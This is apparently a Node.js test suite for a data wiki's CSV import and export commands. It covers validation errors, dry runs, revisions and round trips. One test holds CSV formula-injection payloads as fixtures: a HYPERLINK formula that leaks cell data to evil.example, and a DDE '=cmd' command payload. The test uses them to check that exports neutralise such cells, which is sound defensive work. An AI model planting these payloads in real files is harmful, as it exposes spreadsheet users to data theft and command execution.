// `factwiki import` and `export`: the contract's CSV format, all or nothing.
// Test places are named "t-..." so that other tests see the demo data alone.
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const { get, call, cli, tmpfile, summary } = require('./helpers');

const GD3 = 'https://www.gapminder.org/data/documentation/gd003/';
const HEAD = 'place,variable,year,value,source\n';

async function lastChange() {
  return (await get('/api/v1/changes?limit=1')).json.data[0].id;
}

// Imports text; expects exit 1, each pattern in stderr, and no write.
async function rejected(text, patterns, args = []) {
  const before = await lastChange();
  const file = tmpfile('bad.csv', text);
  const r = cli(['import', '--create-missing', ...args, file]);
  assert.equal(r.code, 1, `exit ${r.code}: ${r.stderr}${r.stdout}`);
  for (const p of patterns) {
    const re = typeof p === 'string' ? new RegExp(p.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')) : p;
    assert.match(r.stderr.replaceAll(file, 'FILE'), re);
  }
  assert.match(r.stderr, /nothing was imported/);
  assert.equal(await lastChange(), before, 'something was written');
  return r.stderr.replaceAll(file, 'FILE');
}

test('bad files are refused whole, each problem at FILE:LINE: column', async (t) => {
  await t.test('an empty file', () => rejected('', ['FILE: the file is empty']));
  await t.test('a header only', () => rejected(HEAD, [/FILE: .*header but no rows/]));
  await t.test('a missing column', () => rejected(
    'place,variable,year,source\nt-a,t-v,2000,' + GD3 + '\n', [/FILE:1: .*value/]));
  await t.test('an unknown column', () => rejected(
    HEAD.trim() + ',colour\nt-a,t-v,2000,1,' + GD3 + ',red\n', [/FILE:1: .*colour/]));
  await t.test('a row with a missing field', () => rejected(
    HEAD + 't-a,t-v,2000,1\n', [/FILE:2: .*5 fields.*4/]));
  await t.test('bytes that are not UTF-8', () => rejected(
    Buffer.concat([Buffer.from(HEAD + 't-'), Buffer.from([0xe9]),
      Buffer.from(',t-v,2000,1,' + GD3 + '\n')]), [/FILE:2: place: .*UTF-8/]));
  await t.test('an unterminated quote', () => rejected(
    HEAD + 't-a,t-v,2000,1,' + GD3 + '\nt-b,"t-v,2001,2,' + GD3 + '\n',
    [/FILE:3: .*quote/]));
  await t.test('values that are not decimals', () => rejected(
    HEAD + `t-a,t-v,2000,"1,234",${GD3}\nt-a,t-v,2001,12abc,${GD3}\nt-a,t-v,2002,NaN,${GD3}\n`,
    [/FILE:2: value: .*thousands/, /FILE:3: value: /, /FILE:4: value: .*NaN/i]));
  await t.test('years that are not years', () => rejected(
    HEAD + `t-a,t-v,2020.5,1,${GD3}\nt-a,t-v,99999,1,${GD3}\n`,
    [/FILE:2: year: .*whole/, /FILE:3: year: .*-9999/]));
  await t.test('an empty place', () => rejected(
    HEAD + `,t-v,2000,1,${GD3}\n`, [/FILE:2: place: /]));
  await t.test('a source that is not a URL', () => rejected(
    HEAD + 't-a,t-v,2000,1,gapminder.org\n', [/FILE:2: source: /]));
  await t.test('a unit that contradicts the variable\'s', () => rejected(
    'place,variable,year,value,unit,source\nAfghanistan,population,2006,1,people,' + GD3 + '\n',
    [/FILE:2: unit: .*persons.*people/]));
  await t.test('the same place, variable and year twice', () => rejected(
    HEAD + `t-a,t-v,2000,1,${GD3}\nt-b,t-v,2000,1,${GD3}\nT-A,t-v,2000,2,${GD3}\n`,
    [/FILE:2: the same .* line 4/, /FILE:4: the same .* line 2/]));
  await t.test('a 10 MB field', () => rejected(
    HEAD + 't-a,t-v,2000,1,' + GD3 + '\nt-b,t-v,2000,"' + 'x'.repeat(10 << 20) + '",' + GD3 + '\n',
    [/FILE:3: .*long/]));
  await t.test('unknown places without --create-missing', async () => {
    const before = await lastChange();
    const file = tmpfile('x.csv', HEAD + `Atlantis,population,2000,1,${GD3}\n`);
    const r = cli(['import', file]);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /:2: place: no place 'Atlantis'/);
    assert.equal(await lastChange(), before);
  });
  await t.test('more than 100 errors: 100 shown, then a count', async () => {
    let text = HEAD;
    for (let i = 0; i < 150; i++) text += `t-a,t-v,${2000 + i},x${i},${GD3}\n`;
    const err = await rejected(text, [/50 more errors not shown/, /150 errors/]);
    assert.equal(err.split('\n').filter((l) => /^FILE:\d+: value/.test(l)).length, 100);
  });
});

test('names of nothing, each at every line that gives it; units at theirs', async () => {
  const file = tmpfile('names.csv', 'place,variable,year,value,unit,source\n' +
    `Atlantis,population,2000,1,,${GD3}\n` +
    `Afghanistan,t-nothing,2000,1,,${GD3}\n` +
    'Afghanistan,population,1800,1,,https://nowhere.example/x\n' +
    'Afghanistan,population,1801,1,,#99999999\n' +
    `Atlantis,population,2001,1,people,${GD3}\n` +
    `Afghanistan,T Nothing,2002,1,kg,${GD3}\n` +
    `Afghanistan,t-nothing,2003,1,g,${GD3}\n`);
  const missing = ', or import with the create-missing option';
  const source = 'FILE:5: source: no source #99999999 exists';
  const units = ["FILE:6: unit: variable population is measured in 'persons', not 'people'",
    "FILE:8: unit: the new variable t-nothing is measured in 'kg' on line 7, not 'g'"];
  const before = await lastChange();
  const r = cli(['import', file]);
  assert.equal(r.code, 1);
  assert.equal(r.stderr.replaceAll(file, 'FILE'), [
    `FILE:2: place: no place 'Atlantis' exists: create it first${missing}`,
    `FILE:3: variable: no variable 't-nothing' exists: create it first${missing}`,
    `FILE:4: source: no source has the URL https://nowhere.example/x: create it first${missing}`,
    source,
    `FILE:6: place: no place 'Atlantis' exists: create it first${missing}`,
    units[0],
    `FILE:7: variable: no variable 'T Nothing' exists: create it first${missing}`,
    units[1],
    `FILE:8: variable: no variable 't-nothing' exists: create it first${missing}`,
    'FILE: 9 errors: nothing was imported', ''].join('\n'));
  const created = cli(['import', '--create-missing', file]);
  assert.equal(created.code, 1);
  assert.equal(created.stderr.replaceAll(file, 'FILE'),
    [source, ...units, 'FILE: 3 errors: nothing was imported', ''].join('\n'));
  assert.equal(await lastChange(), before);
});

test('line numbers are physical lines: quoted newlines count', async () => {
  await rejected('\ufeff' + HEAD.replace(/\n/, '\r\n') +
    `t-a,t-v,2000,1,${GD3}\r\n"t-\nb",t-v,2000,1,${GD3}\r\nt-c,t-v,2000,oops,${GD3}\r\n`,
    [/FILE:3: place: /, /FILE:5: value: /]);
});

test('--dry-run reports and writes nothing; then the import; then idempotent', async () => {
  const text = 'place,variable,year,value,unit,source,source_title,note\n' +
    `T Alpha,T Vee,1990,-0.17,widgets,https://example.org/t,Example,first\n` +
    `T Alpha,T Vee,1991,2.50,widgets,https://example.org/t,Example,\n` +
    `T Alpha,T Vee,1992,1.5e6,,https://example.org/t,,\n` +
    `t-alpha,t-vee,-44,7,widgets,https://example.org/t,Example,BCE\n`;
  const file = tmpfile('good.csv', text);
  const before = await lastChange();
  const dry = cli(['import', '--dry-run', '--create-missing', file]);
  assert.equal(dry.code, 0, dry.stderr);
  assert.deepEqual(summary(dry.stdout), {
    'rows read': 4, 'facts added': 4, 'facts updated': 0, 'facts unchanged': 0,
    'places created': 1, 'variables created': 1, 'sources created': 1,
  });
  assert.equal(await lastChange(), before);
  assert.equal((await get('/api/v1/places/t-alpha')).status, 404);

  const r = cli(['import', '--create-missing', '--comment', 'test data', '--user', 'system', file]);
  assert.equal(r.code, 0, r.stderr);
  assert.equal(summary(r.stdout)['facts added'], 4);
  const s = await get('/api/v1/series/t-alpha/t-vee');
  assert.equal(s.json.place.name, 'T Alpha');
  assert.equal(s.json.variable.unit, 'widgets');
  assert.match(s.text, /"year" : -44, "value" : 7,/);
  assert.match(s.text, /"value" : -0\.17,/);
  assert.match(s.text, /"value" : 2\.50,/);
  assert.match(s.text, /"value" : 1500000,/);
  assert.equal(s.json.observations[1].note, 'first');
  const change = (await get('/api/v1/changes?limit=1')).json.data[0];
  assert.equal(change.comment, 'test data');
  assert.equal(change.facts_added, 4);

  const again = cli(['import', file]);
  assert.equal(again.code, 0, again.stderr);
  assert.equal(summary(again.stdout)['facts unchanged'], 4);
  assert.equal(await lastChange(), change.id, 'a re-import wrote a change');
});

test('a changed value updates the fact and writes one revision', async () => {
  const file = tmpfile('upd.csv', HEAD + `t-alpha,t-vee,1991,2.5,https://example.org/t\n` +
    `t-alpha,t-vee,1990,-0.17,https://example.org/t\n`);
  const r = cli(['import', file]);
  assert.equal(r.code, 0, r.stderr);
  const s = summary(r.stdout);
  assert.equal(s['facts updated'], 1, '2.50 -> 2.5 keeps its digits, so it is a change');
  assert.equal(s['facts unchanged'], 1);
  const h = await get('/api/v1/facts/t-alpha/t-vee/1991/history');
  assert.equal(h.json.revisions.length, 2);
  assert.equal(h.json.revisions[0].action, 'update');
  assert.match(h.text, /"old" : \{"value" : 2\.50/);
  assert.match(h.text, /"new" : \{"value" : 2\.5,/);
  // The note column was left out: the note stays.
  assert.equal((await get('/api/v1/series/t-alpha/t-vee')).json.observations[1].note, 'first');
});

test('export: filters, and the round trip', async () => {
  const r = cli(['export', '--place', 't-alpha', '--from', '1990', '--to', '1991']);
  assert.equal(r.code, 0, r.stderr);
  assert.equal(r.stdout,
    'place,variable,year,value,unit,source,source_title,note\n' +
    't-alpha,t-vee,1990,-0.17,widgets,https://example.org/t,Example,first\n' +
    't-alpha,t-vee,1991,2.5,widgets,https://example.org/t,Example,\n');
  const all = cli(['export']);
  const back = cli(['import', tmpfile('all.csv', all.stdout)]);
  assert.equal(back.code, 0, back.stderr);
  const s = summary(back.stdout);
  assert.equal(s['facts unchanged'], s['rows read']);
  assert.equal(cli(['export', '--place', 'atlantis']).code, 1);
  assert.equal(cli(['export', '--from', 'abc']).code, 2);
});

test('formulas: every export puts an apostrophe before them, numbers stay, and it imports back unchanged', async () => {
  const notes = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+1', '-x', '@SUM(A1)',
    '\t=1', '\r=1', "'=1", "'plain", '-'];
  // A file's apostrophe before a formula is the spreadsheets' mark of text,
  // and goes: a note that begins with one is written with two.
  const inFile = { "'=1": "''=1" };
  const rows = notes.map((n, i) => `t-formula,t-vee,${2000 + i},${i % 2 ? '-3' : '-0.17'},` +
    `https://example.org/t,"=cmd|' /C calc'!A0","${(inFile[n] ?? n).replace(/"/g, '""')}"`);
  const file = tmpfile('formula.csv', 'place,variable,year,value,source,source_title,note\n' +
    rows.join('\n') + '\n');
  const made = cli(['import', '--create-missing', file]);
  assert.equal(made.code, 0, made.stderr);
  const series = (await get('/api/v1/series/t-formula/t-vee')).json;
  assert.deepEqual(series.observations.map((o) => o.note), notes, 'the import took the notes as written');

  const exported = cli(['export', '--place', 't-formula']).stdout;
  const api = (await get('/api/v1/facts?place=t-formula&format=csv&limit=100')).text;
  const seriesCsv = (await get('/api/v1/series/t-formula/t-vee?format=csv')).text;
  for (const [what, csv] of [['factwiki export', exported], ['facts CSV', api], ['series CSV', seriesCsv]]) {
    // No cell, quoted or not, starts with what a spreadsheet runs; numbers may.
    for (const cell of csv.matchAll(/(?:^|,)("?)([^,\n]*)/gm)) {
      assert.doesNotMatch(cell[2], /^[=@\t\r]|^[+-](?![0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?$)/,
        `${what}: a cell starts a formula: ${cell[0]}`);
    }
    assert.match(csv, /,"'=HYPERLINK\(""http:/, what);
    assert.match(csv, /,-3,/, `${what}: -3 is still a number`);
    assert.match(csv, /,-0\.17,/, `${what}: -0.17 is still a number`);
    assert.match(csv, /,''=1/, `${what}: an apostrophe before a formula is kept apart from ours`);
  }
  const back = cli(['import', tmpfile('formula-back.csv', exported)]);
  assert.equal(back.code, 0, back.stderr);
  assert.equal(summary(back.stdout)['facts unchanged'], notes.length, back.stdout);
  const name = `formula${process.pid}`;
  assert.equal(cli(['user', 'add', name], 'formula test password\n').code, 0);
  const token = cli(['token', 'create', name]).stdout.trim();
  const viaApi = await call('POST', '/api/v1/imports', {
    token, body: api, headers: { 'content-type': 'text/csv' },
  });
  assert.equal(viaApi.status, 200, viaApi.text);
  assert.equal(viaApi.json.unchanged, notes.length, viaApi.text);
  assert.deepEqual((await get('/api/v1/series/t-formula/t-vee')).json.observations.map((o) => o.note), notes);
});

test('exit status 2 on usage errors, 3 when the database is out of reach', () => {
  assert.equal(cli([]).code, 2);
  assert.equal(cli(['frobnicate']).code, 2);
  assert.equal(cli(['import']).code, 2);
  assert.equal(cli(['import', '--bogus', 'x.csv']).code, 2);
  const r = cli(['migrate'], '', { DATABASE_URL: 'postgresql:///nope?host=/nonexistent' });
  assert.equal(r.code, 3);
  assert.match(r.stderr, /host=\/nonexistent/);
});

test('import from standard input', () => {
  const r = cli(['import', '-'], HEAD + `t-alpha,t-vee,1990,-0.17,https://example.org/t\n`);
  assert.equal(r.code, 0, r.stderr);
  assert.equal(summary(r.stdout)['facts unchanged'], 1);
});
